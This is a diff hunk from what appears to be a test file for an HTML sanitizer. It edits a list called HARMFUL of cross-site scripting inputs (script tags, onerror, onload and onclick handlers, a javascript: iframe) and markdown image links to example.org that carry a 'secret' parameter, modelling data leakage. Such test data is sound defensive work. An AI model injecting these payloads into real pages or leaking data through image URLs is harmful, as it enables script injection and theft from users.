@@ -17,8 +17,8 @@ ATTRIBUTES = {"href", "class", "title", "start"}
 HARMFUL = [
     "<script>alert(1)</script>",
     "<img src=x onerror=alert(1)>",
-    "a <svg/onload=alert(1)> b",
-    "<!-- <b> --><?x?><![CDATA[<b>]]>",
+    "a <svg onload=alert(1)> b",
+    "<!-- --><b onclick=alert(1)>",
     "</div></details><iframe src='javascript:alert(1)'>",
     "![picture](http://example.org/?secret)",
     "![picture][a]\n\n[a]: http://example.org/?secret",
